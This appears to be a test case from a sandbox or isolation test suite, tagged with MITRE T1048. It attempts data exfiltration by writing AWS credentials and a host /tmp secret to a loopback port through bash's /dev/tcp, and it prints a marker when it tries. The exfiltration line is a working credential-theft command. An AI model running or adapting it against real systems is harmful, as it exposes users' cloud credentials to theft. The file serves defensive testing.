# family: injection
# tries: send the AWS credentials and the host /tmp secret to the host's loopback through bash's /dev/tcp, no network tool needed
# source: https://attack.mitre.org/techniques/T1048/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
command -v bash >/dev/null 2>&1 || { echo "CANNOT $1 bash is not installed" >&2; exit 3; }
(echo "ATTEMPTED $1" >&2)
bash -c 'cat "$1/.aws/credentials" "$2" > "/dev/tcp/127.0.0.1/$3"' bash "$2" "$3" "$4" 2>&1 &&
	echo "sent through /dev/tcp"
